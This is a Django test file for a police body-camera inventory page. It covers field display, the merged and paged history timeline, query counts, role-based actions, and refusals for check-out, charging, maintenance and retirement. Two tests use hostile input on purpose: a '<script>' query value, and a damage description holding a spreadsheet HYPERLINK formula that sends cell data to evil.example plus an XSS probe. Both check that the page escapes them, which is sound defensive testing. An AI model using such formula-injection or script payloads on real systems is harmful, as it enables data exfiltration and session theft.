"""The camera page: every field, the holder, one merged timeline, and each action with its refusal."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from accounts import roles
from assignments import services as assignment_services
from assignments.models import Checkout, PersonalIssue
from audit.actor import Actor
from audit.models import AuditEvent
from hartford_bwc.factories import CameraFactory, DockFactory, KioskFactory, OfficerFactory
from hartford_bwc.testing import messages_of, sign_in
from inventory import services
from inventory.models import Camera, ChargeEvent, Flag, MaintenanceRecord

pytestmark = pytest.mark.django_db
SYSTEM = Actor.system_process("tests")


@pytest.fixture
def qm(client):
    sign_in(client, roles.QUARTERMASTER)
    return client


def url(camera, action=""):
    return f"/inventory/cameras/{camera.asset_tag}/" + (f"{action}/" if action else "")


def test_page_shows_the_record_the_holder_and_open_flags(qm):
    camera = CameraFactory(
        asset_tag="HPD-BWC-0412", serial_number="X6A9999", firmware_version="3.4.1", purchase_batch="2019 rollout"
    )
    officer = OfficerFactory(first_name="Dana", last_name="Whitfield", badge_number="4411")
    assignment_services.check_out(camera=camera, officer=officer, by=SYSTEM)
    Flag.objects.create(camera=camera, kind=Flag.Kind.RETURN_OVERDUE, detail="Due back at 16:00")

    response = qm.get(url(camera))

    assert response.status_code == 200
    html = response.content.decode()
    for text in ("HPD-BWC-0412", "X6A9999", "3.4.1", "2019 rollout", "Axon Body 4", "Checked out"):
        assert text in html
    assert "Ofc. Dana Whitfield" in html and "badge 4411" in html
    assert "Return overdue" in html


def test_unknown_asset_tag_is_404(qm):
    assert qm.get("/inventory/cameras/HPD-BWC-9999/").status_code == 404


def test_timeline_merges_every_source_newest_first(qm, staff_actor):
    dock = DockFactory(name="Dock 07")
    camera = CameraFactory()
    officer = OfficerFactory(last_name="Whitfield")
    assignment_services.check_out(camera=camera, officer=officer, by=staff_actor)
    assignment_services.check_in(camera=camera, by=staff_actor)
    services.record_charge(camera=camera, kind=ChargeEvent.Kind.DOCKED, dock=dock, bay=3, by=staff_actor)
    services.open_maintenance(camera=camera, kind="inspection", performed_by="in_house", by=staff_actor)
    Flag.objects.create(camera=camera, kind=Flag.Kind.REFRESH_DUE)
    assignment_services.issue_personal(officer=officer, camera=camera, by=staff_actor)

    timeline = qm.get(url(camera)).context["page"].timeline.entries

    kinds = [entry.kind for entry in timeline]
    assert set(kinds) == {"checkout", "charge", "maintenance", "flag", "audit"}
    assert [entry.at for entry in timeline] == sorted((entry.at for entry in timeline), reverse=True)
    titles = [entry.title for entry in timeline]
    assert any(t.startswith("Checked out to") for t in titles)
    assert any(t.startswith("Checked in by") for t in titles)
    assert "Docked" in titles
    assert any(t.startswith("Issued as a personal camera") for t in titles)
    # The audit events behind the check-out and the dock name who did it instead of repeating the row.
    docked = next(entry for entry in timeline if entry.title == "Docked")
    assert docked.actor == str(staff_actor)
    assert not any(entry.title.startswith("checkout") for entry in timeline)


def _history(camera, officers, n):
    """n check-out/check-in/full-charge rounds: five timeline entries each (three rows, two audit-only)."""
    for i in range(n):
        assignment_services.check_out(camera=camera, officer=officers[i % len(officers)], by=SYSTEM)
        assignment_services.check_in(camera=camera, by=SYSTEM)
        services.record_charge(camera=camera, kind="full_charge", by=SYSTEM)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        # session, user, roles; camera; open checkout, personal issue, open maintenance, open flags;
        # the five sources; the actors of the page's rows; the photos and documents (with their
        # records); the signal devices paired with it. The charge form's dock is typed, not a menu of
        # every dock: no query.
        ("", 16),
        # One source; its rows' actors.
        ("?kind=checkout", 12),
        ("?kind=charge", 12),
        # The audit source names its own actors: no actor query.
        ("?kind=audit", 11),
    ],
)
def test_timeline_reads_each_source_once_whatever_the_history(qm, django_assert_num_queries, query, expected):
    camera = CameraFactory()
    officers = OfficerFactory.create_batch(3)
    _history(camera, officers, 2)
    qm.get(url(camera))  # the session's refresh after sign-in (3 queries) is not the page's cost
    with django_assert_num_queries(expected):
        qm.get(url(camera) + query)
    _history(camera, officers, 30)
    with django_assert_num_queries(expected):
        response = qm.get(url(camera) + query)
    assert response.status_code == 200


def test_history_is_paged_newest_first_and_each_page_links_the_next(qm):
    camera = CameraFactory()
    _history(camera, OfficerFactory.create_batch(2), 30)  # 30 check-outs, returns and charges: 90 entries

    first = qm.get(url(camera)).context["page"].timeline
    second = qm.get(url(camera) + "?page=2").context["page"].timeline

    assert len(first.entries) == 50 and first.has_next and not first.has_previous
    assert len(second.entries) == 40 and not second.has_next and second.has_previous
    seen = [(e.at, e.title) for e in first.entries + second.entries]
    assert len(set(seen)) == 90
    assert [at for at, _ in seen] == sorted((at for at, _ in seen), reverse=True)
    html = qm.get(url(camera) + "?page=2").content.decode()
    assert 'href="?page=1#history" rel="prev"' in html and 'rel="next"' not in html


def test_history_filters_by_kind_and_keeps_the_kind_across_pages(qm):
    camera = CameraFactory()
    _history(camera, OfficerFactory.create_batch(2), 30)
    Flag.objects.create(camera=camera, kind=Flag.Kind.REFRESH_DUE)

    charges = qm.get(url(camera) + "?kind=charge").context["page"].timeline
    flags = qm.get(url(camera) + "?kind=flag").context["page"].timeline

    assert {e.kind for e in charges.entries} == {"charge"} and len(charges.entries) == 30
    assert not charges.has_next
    assert [e.title for e in flags.entries] == ["Flag raised: Refresh due"]
    checkouts = qm.get(url(camera) + "?kind=checkout")
    assert 'href="?kind=checkout&amp;page=2#history" rel="next"' in checkouts.content.decode()
    assert checkouts.context["page"].timeline.entries[0].actor  # the actor comes from the audit event


@pytest.mark.parametrize(
    "query", ["?page=0", "?page=-3", "?page=zzz", "?page=99999999999999999999", "?kind=<script>", "?kind=&page="]
)
def test_bad_history_parameters_show_the_first_page_or_the_last_allowed(qm, query):
    camera = CameraFactory()
    _history(camera, OfficerFactory.create_batch(1), 1)
    response = qm.get(url(camera) + query)
    assert response.status_code == 200
    assert "<script>" not in response.content.decode().split("History", 1)[1]


def test_a_page_past_the_end_says_there_is_no_older_history(qm):
    camera = CameraFactory()
    _history(camera, OfficerFactory.create_batch(1), 1)
    html = qm.get(url(camera) + "?page=5").content.decode()
    assert "No older history." in html
    assert 'href="?page=4#history" rel="prev"' in html


def test_supervisor_reads_the_page_without_action_forms(client):
    sign_in(client, roles.SUPERVISOR)
    camera = CameraFactory()
    response = client.get(url(camera))
    assert response.status_code == 200
    assert response.context["actions"] == []
    assert "Check out" not in response.content.decode()


def test_actions_offered_fit_the_cameras_state(qm):
    available = CameraFactory()
    slugs = [shown.slug for shown in qm.get(url(available)).context["actions"]]
    assert slugs == ["check-out", "charge", "maintenance-open", "issue-personal", "report-lost", "retire"]
    lost = CameraFactory(status=Camera.Status.LOST, lost_incident_number="HPD-26-1")
    assert [shown.slug for shown in qm.get(url(lost)).context["actions"]] == ["report-found", "retire"]


# --- each action: success and refusal -----------------------------------------------------------


def test_check_out_on_behalf_of_an_officer_by_badge(qm):
    camera = CameraFactory()
    officer = OfficerFactory(badge_number="4411")
    response = qm.post(url(camera, "check-out"), {"check-out-officer": "4411"}, follow=True)
    assert response.redirect_chain[-1][0] == url(camera)
    checkout = Checkout.objects.get(camera=camera)
    assert checkout.officer == officer and checkout.out_by is not None
    assert any("checked out to" in m for m in messages_of(response))


def test_check_out_refusal_shows_the_services_message_and_changes_nothing(qm):
    camera = CameraFactory(last_full_charge_at=None)
    OfficerFactory(badge_number="4411")
    response = qm.post(url(camera, "check-out"), {"check-out-officer": "4411"})
    assert response.status_code == 409
    assert "not charged enough" in " ".join(messages_of(response))
    assert 'role="alert"' in response.content.decode()
    assert not Checkout.objects.exists()
    assert Camera.objects.get(pk=camera.pk).status == Camera.Status.AVAILABLE
    # The form comes back as typed.
    assert 'value="4411"' in response.content.decode()


def test_check_out_can_override_the_charge_rule_when_told(qm):
    camera = CameraFactory(last_full_charge_at=None)
    OfficerFactory(badge_number="4411")
    qm.post(url(camera, "check-out"), {"check-out-officer": "4411", "check-out-allow_uncharged": "on"})
    assert Checkout.objects.open().filter(camera=camera).exists()


def test_unknown_badge_is_a_form_error_not_a_crash(qm):
    camera = CameraFactory()
    response = qm.post(url(camera, "check-out"), {"check-out-officer": "0000"})
    assert response.status_code == 422
    assert "No officer has badge number 0000." in response.content.decode()


def test_check_in_working_and_damaged(qm):
    camera = CameraFactory()
    assignment_services.check_out(camera=camera, officer=OfficerFactory(), by=SYSTEM)
    response = qm.post(url(camera, "check-in"), {"check-in-condition": "damaged", "check-in-damage_description": ""})
    assert response.status_code == 409
    assert "Say what is wrong with the camera." in messages_of(response)
    assert Checkout.objects.open().filter(camera=camera).exists()

    qm.post(url(camera, "check-in"), {"check-in-condition": "damaged", "check-in-damage_description": "Lens cracked"})
    camera.refresh_from_db()
    assert camera.status == Camera.Status.IN_MAINTENANCE
    assert MaintenanceRecord.objects.get(camera=camera).problem == "Lens cracked"


def test_check_in_of_a_camera_on_the_shelf_is_refused(qm):
    camera = CameraFactory()
    response = qm.post(url(camera, "check-in"), {"check-in-condition": "working"})
    assert response.status_code == 409
    assert "is not checked out" in " ".join(messages_of(response))


def test_record_dock_and_refuse_a_taken_bay(qm):
    dock = DockFactory(bays=8)
    first, second = CameraFactory(), CameraFactory()
    qm.post(url(first, "charge"), {"charge-kind": "docked", "charge-dock": dock.name, "charge-bay": 2})
    first.refresh_from_db()
    assert (first.dock, first.dock_bay) == (dock, 2)

    response = qm.post(url(second, "charge"), {"charge-kind": "docked", "charge-dock": dock.name, "charge-bay": 2})
    assert response.status_code == 409
    assert f"already holds {first.asset_tag}" in " ".join(messages_of(response))
    assert not ChargeEvent.objects.filter(camera=second).exists()


def test_the_dock_is_typed_as_on_its_label_not_chosen_from_every_dock(qm):
    DockFactory.create_batch(30)
    dock = DockFactory(name="Dock 77A", bays=8)
    camera = CameraFactory()
    page = qm.get(url(camera)).content.decode()
    assert "Dock 77A" not in page  # no menu of the fleet's docks on the camera's page
    assert 'aria-describedby="id_charge-dock_helptext"' in page
    assert "The name on the dock&#x27;s label" in page

    # Letter case and the spaces around it do not matter.
    qm.post(url(camera, "charge"), {"charge-kind": "docked", "charge-dock": "  dock 77a ", "charge-bay": 3})
    camera.refresh_from_db()
    assert (camera.dock, camera.dock_bay) == (dock, 3)
    # The page then offers the dock the camera is in, by name.
    assert 'value="Dock 77A"' in qm.get(url(camera)).content.decode()


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("Dock 999", "No dock in service is named “Dock 999”"),
        ("Retired dock", "No dock in service is named “Retired dock”"),
    ],
)
def test_an_unknown_or_retired_dock_is_a_form_error_and_nothing_is_recorded(qm, typed, message):
    DockFactory(name="Retired dock", is_active=False)
    camera = CameraFactory()
    response = qm.post(url(camera, "charge"), {"charge-kind": "docked", "charge-dock": typed, "charge-bay": 1})
    assert response.status_code == 422
    assert message in response.content.decode()
    assert 'aria-invalid="true"' in response.content.decode()
    assert not ChargeEvent.objects.filter(camera=camera).exists()


def test_record_full_charge_with_battery_level(qm):
    camera = CameraFactory(last_full_charge_at=None)
    qm.post(url(camera, "charge"), {"charge-kind": "full_charge", "charge-battery_percent": 100})
    camera.refresh_from_db()
    assert camera.last_full_charge_at is not None and camera.battery_percent == 100


def test_open_triage_and_close_maintenance(qm):
    camera = CameraFactory(firmware_version="3.1.7")
    response = qm.post(
        url(camera, "maintenance-open"),
        {
            "maintenance-open-kind": "firmware_update",
            "maintenance-open-performed_by": "",
            "maintenance-open-problem": "Old",
        },
    )
    assert response.status_code == 302
    record = MaintenanceRecord.objects.get(camera=camera)
    assert record.performed_by == "" and record.is_open

    refused = qm.post(url(camera, "maintenance-assign"), {"maintenance-assign-performed_by": "vendor"})
    assert refused.status_code == 409
    assert "A vendor repair needs the RMA number." in messages_of(refused)

    qm.post(
        url(camera, "maintenance-assign"),
        {"maintenance-assign-performed_by": "vendor", "maintenance-assign-rma_number": "RMA-2611-4100"},
    )
    record.refresh_from_db()
    assert (record.performed_by, record.rma_number) == ("vendor", "RMA-2611-4100")

    no_version = qm.post(url(camera, "maintenance-close"), {"maintenance-close-outcome": "returned_to_service"})
    assert "Enter the firmware version" in " ".join(messages_of(no_version))
    assert MaintenanceRecord.objects.get(pk=record.pk).is_open

    qm.post(
        url(camera, "maintenance-close"),
        {"maintenance-close-outcome": "returned_to_service", "maintenance-close-firmware_version": "4.1.0"},
    )
    camera.refresh_from_db()
    assert camera.status == Camera.Status.AVAILABLE and camera.firmware_version == "4.1.0"


def test_open_maintenance_on_a_checked_out_camera_is_refused(qm):
    camera = CameraFactory()
    assignment_services.check_out(camera=camera, officer=OfficerFactory(last_name="Ames"), by=SYSTEM)
    response = qm.post(url(camera, "maintenance-open"), {"maintenance-open-kind": "repair"})
    assert response.status_code == 409
    assert "check it in first" in " ".join(messages_of(response))
    assert not MaintenanceRecord.objects.exists()


def test_closing_maintenance_that_is_not_open_is_refused(qm):
    camera = CameraFactory()
    response = qm.post(url(camera, "maintenance-close"), {"maintenance-close-outcome": "returned_to_service"})
    assert response.status_code == 409
    assert f"{camera.asset_tag} has no open maintenance record." in messages_of(response)


def test_issue_and_revoke_personal_camera(qm):
    camera = CameraFactory()
    officer = OfficerFactory(badge_number="4411")
    qm.post(url(camera, "issue-personal"), {"issue-personal-officer": "4411"})
    assert PersonalIssue.objects.current().get(camera=camera).officer == officer
    assert Camera.objects.get(pk=camera.pk).pool == Camera.Pool.PERSONAL

    other = CameraFactory()
    refused = qm.post(url(other, "issue-personal"), {"issue-personal-officer": "4411"})
    assert refused.status_code == 409
    assert "already has" in " ".join(messages_of(refused))

    qm.post(url(camera, "revoke-personal"), {"revoke-personal-reason": "Transferred"})
    assert not PersonalIssue.objects.current().exists()
    assert Camera.objects.get(pk=camera.pk).pool == Camera.Pool.SPARE

    again = qm.post(url(camera, "revoke-personal"), {})
    assert again.status_code == 409
    assert "is not anyone's personal camera" in " ".join(messages_of(again))


def test_retire_needs_a_reason_and_keeps_history(qm):
    camera = CameraFactory()
    missing = qm.post(url(camera, "retire"), {"retire-reason": ""})
    assert missing.status_code == 422
    assert Camera.objects.get(pk=camera.pk).status == Camera.Status.AVAILABLE

    qm.post(url(camera, "retire"), {"retire-reason": "Housing cracked", "confirm": "yes"})
    assert Camera.objects.get(pk=camera.pk).status == Camera.Status.RETIRED
    assert AuditEvent.objects.filter(action="camera.retire", camera=camera, reason="Housing cracked").exists()

    again = qm.post(url(camera, "retire"), {"retire-reason": "Again", "confirm": "yes"})
    assert "already retired" in " ".join(messages_of(again))


def test_retire_asks_for_confirmation_showing_what_will_change_and_keeps_the_reason(qm):
    dock = DockFactory(name="Dock 07")
    camera = CameraFactory(asset_tag="HPD-BWC-0001", dock=dock, dock_bay=2)

    asked = qm.post(url(camera, "retire"), {"retire-reason": "Housing cracked"})

    assert asked.status_code == 200
    html = asked.content.decode()
    assert "Retire HPD-BWC-0001?" in html
    assert "Retired; spare pool, no personal issue; leaves Dock 07, bay 2" in html
    assert "Housing cracked</textarea>" in html
    assert 'name="confirm" value="yes"' in html
    camera.refresh_from_db()
    assert (camera.status, camera.dock_bay) == (Camera.Status.AVAILABLE, 2)
    assert not AuditEvent.objects.filter(action="camera.retire").exists()


def test_retire_confirmation_of_a_checked_out_camera_shows_the_refusal_and_confirm_still_refuses(qm):
    camera = CameraFactory(asset_tag="HPD-BWC-0001")
    assignment_services.check_out(camera=camera, officer=OfficerFactory(first_name="Lee", last_name="Ames"), by=SYSTEM)
    asked = qm.post(url(camera, "retire"), {"retire-reason": "Old"})
    assert "check it in before it can be retired" in asked.content.decode()
    refused = qm.post(url(camera, "retire"), {"retire-reason": "Old", "confirm": "yes"})
    assert refused.status_code == 409
    assert Camera.objects.get(pk=camera.pk).status == Camera.Status.CHECKED_OUT


def test_report_lost_and_found(qm):
    camera = CameraFactory()
    holder = OfficerFactory()
    assignment_services.check_out(camera=camera, officer=holder, by=SYSTEM)
    qm.post(url(camera, "report-lost"), {"report-lost-incident_number": "HPD-26-04412"})
    camera.refresh_from_db()
    assert camera.status == Camera.Status.LOST and camera.lost_incident_number == "HPD-26-04412"
    assert not Checkout.objects.open().exists()

    again = qm.post(url(camera, "report-lost"), {"report-lost-incident_number": "HPD-26-1"})
    assert "already lost" in " ".join(messages_of(again))

    qm.post(url(camera, "report-found"), {"report-found-notes": "Turned in at District 2"})
    camera.refresh_from_db()
    assert camera.status == Camera.Status.IN_MAINTENANCE
    assert MaintenanceRecord.objects.open().get(camera=camera).kind == "inspection"

    not_lost = qm.post(url(camera, "report-found"), {})
    assert "is not reported lost" in " ".join(messages_of(not_lost))


def test_actions_refuse_get(qm):
    camera = CameraFactory()
    assert qm.get(url(camera, "retire")).status_code == 405


def test_unknown_camera_action_is_404(qm):
    assert qm.post("/inventory/cameras/HPD-NOPE/retire/", {"retire-reason": "x"}).status_code == 404


def test_overdue_holder_is_marked(qm):
    camera = CameraFactory()
    assignment_services.check_out(camera=camera, officer=OfficerFactory(), by=SYSTEM)
    Checkout.objects.update(
        checked_out_at=timezone.now() - timedelta(hours=20), due_back_at=timezone.now() - timedelta(hours=1)
    )
    assert "overdue" in qm.get(url(camera)).content.decode()


def _repair_opened(timeline):
    return next(entry for entry in timeline if entry.title.startswith("Repair opened"))


def test_repair_opened_by_a_damaged_kiosk_return_names_the_officer_and_kiosk(qm):
    from hartford_bwc.factories import KioskFactory

    camera = CameraFactory()
    officer = OfficerFactory(first_name="Dana", last_name="Whitfield")
    kiosk = KioskFactory(name="Front desk")
    at_kiosk = Actor.at_kiosk(kiosk, officer)
    assignment_services.check_out(camera=camera, officer=officer, by=at_kiosk)
    assignment_services.check_in(camera=camera, by=at_kiosk, condition="damaged", damage_description="Cracked lens")

    response = qm.get(url(camera))

    entry = _repair_opened(response.context["page"].timeline.entries)
    assert entry.actor == f"{officer.display_name} at kiosk Front desk"
    assert f"by {officer.display_name} at kiosk Front desk" in response.content.decode()


def test_repair_opened_from_the_console_names_the_staff_user(qm):
    camera = CameraFactory(status=Camera.Status.AVAILABLE)
    response = qm.post(
        url(camera, "maintenance-open"),
        {"maintenance-open-kind": "repair", "maintenance-open-performed_by": "", "maintenance-open-problem": "Stuck"},
    )
    assert response.status_code == 302

    response = qm.get(url(camera))

    assert _repair_opened(response.context["page"].timeline.entries).actor == "quartermaster-user"
    assert "by quartermaster-user" in response.content.decode()


def test_a_formula_typed_as_damage_description_shows_as_plain_text(qm):
    # Anyone at a kiosk can type the description; the page shows it, never runs or links it.
    camera = CameraFactory(asset_tag="HPD-BWC-0666")
    assignment_services.check_out(camera=camera, officer=OfficerFactory(), by=SYSTEM)
    typed = '=HYPERLINK("http://evil.example/?"&A2,"Details")<script>alert(1)</script>'
    assignment_services.check_in(
        camera=camera, by=Actor.at_kiosk(KioskFactory()), condition="damaged", damage_description=typed
    )

    html = qm.get(url(camera)).content.decode()

    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;Details&quot;)&lt;script&gt;" in html
    assert "<script>alert(1)" not in html and 'href="http://evil.example' not in html
